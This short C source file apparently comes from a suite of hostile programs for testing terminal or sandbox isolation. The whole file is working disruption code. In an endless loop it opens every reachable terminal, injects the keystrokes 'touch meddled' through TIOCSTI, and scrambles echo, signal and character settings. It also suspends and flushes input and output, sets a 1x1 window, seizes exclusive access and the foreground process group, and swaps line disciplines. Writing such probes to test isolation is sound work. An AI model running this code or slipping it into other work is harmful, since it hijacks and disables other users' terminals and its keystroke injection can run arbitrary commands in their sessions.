/* meddle: changes all that it can of each terminal that it finds, types into it, and keeps it from
   being read and written, without end. */
#include "hostile.h"

#include <asm/termbits.h>
#include <fcntl.h>
#include <stdio.h>
#include <string.h>
#include <sys/ioctl.h>
#include <unistd.h>

/* Line disciplines: N_TTY, and one that drops all. */
static const int DISCIPLINES[] = {27, 0};

static void meddle_with(int terminal) {
  struct termios settings;
  if (ioctl(terminal, TCGETS, &settings) != 0) return;
  settings.c_lflag ^= ECHO | ICANON | ISIG;
  settings.c_iflag ^= IXON | IGNCR;
  settings.c_cflag ^= CS8;
  ioctl(terminal, TCSETSF, &settings);
  struct winsize size = {.ws_row = 1, .ws_col = 1};
  ioctl(terminal, TIOCSWINSZ, &size);
  for (const char *at = "touch meddled\n"; *at; at++) ioctl(terminal, TIOCSTI, at);
  for (int action = 0; action < 4; action++) ioctl(terminal, TCXONC, action);
  ioctl(terminal, TCFLSH, 2);
  ioctl(terminal, TIOCEXCL);
  ioctl(terminal, TIOCSPGRP, &(int){getpid()});
  for (int i = 0; i < 2; i++) ioctl(terminal, TIOCSETD, &DISCIPLINES[i]);
}

int meddle(int argc, char **argv) {
  (void)argc, (void)argv;
  dprintf(1, "up\n");
  for (unsigned round = 0;; round++) {
    for (int fd = 0; fd < 10; fd++) meddle_with(fd);
    for (int number = 0; number < 64; number++) {
      char path[32];
      snprintf(path, sizeof path, "/dev/pts/%d", number);
      int terminal = open(path, O_RDWR | O_NOCTTY | O_NONBLOCK);
      if (terminal < 0) continue;
      meddle_with(terminal);
      close(terminal);
    }
    if (round % 64 == 0) dprintf(1, "meddled\n");
    usleep(1000);
  }
}
